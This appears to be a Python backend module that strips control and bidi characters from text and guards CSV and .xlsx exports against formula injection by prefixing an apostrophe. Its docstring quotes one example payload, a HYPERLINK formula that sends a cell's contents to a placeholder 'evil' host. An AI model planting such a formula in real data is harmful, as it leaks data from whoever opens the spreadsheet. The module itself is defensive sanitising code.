"""Text that is safe to show and to export: one definition of the characters never passed on,
and the one spreadsheet-cell rule for every CSV and .xlsx the platform writes.

Control characters (but tab, LF, CR), Unicode bidi controls (U+202E turns "exe.txt" into
"txt.exe" on screen), line separators, the BOM, lone surrogates and non-characters are refused
at input (``backend.web.input``) and removed on output (pages, exports).

A cell that starts with ``= + - @`` (or tab or CR, or their full-width forms) is a formula to
Excel, LibreOffice and Numbers: ``=HYPERLINK("http://evil/?"&A1, "点击")`` in an organisation's
name would run in an auditor's spreadsheet. ``spreadsheet_cell`` prefixes such text with an
apostrophe, the OWASP-recommended neutraliser that spreadsheets display as plain text. Plain
numbers written as text (``-0.05``) are left as they are: they cannot be formulas.
"""

from __future__ import annotations

import re
from typing import Any

UNSAFE_CHARACTERS = re.compile(
    "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069"
    "\ufeff\ufff9-\ufffb\ufffe\uffff\ud800-\udfff]"
)
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
_PLAIN_NUMBER = re.compile(r"^[+-]?\d+(?:\.\d+)?$")


def unsafe_character(text: str) -> str | None:
    found = UNSAFE_CHARACTERS.search(text)
    return found.group() if found else None


def without_unsafe(text: str) -> str:
    return UNSAFE_CHARACTERS.sub("", text)


def spreadsheet_cell(value: Any) -> Any:
    """``value`` as it may be written to a CSV or .xlsx cell (non-text values unchanged)."""
    if not isinstance(value, str):
        return value
    text = without_unsafe(value)
    if text.startswith(_FORMULA_START) and not _PLAIN_NUMBER.match(text):
        return "'" + text
    return text


def spreadsheet_row(values: list[Any]) -> list[Any]:
    return [spreadsheet_cell(value) for value in values]
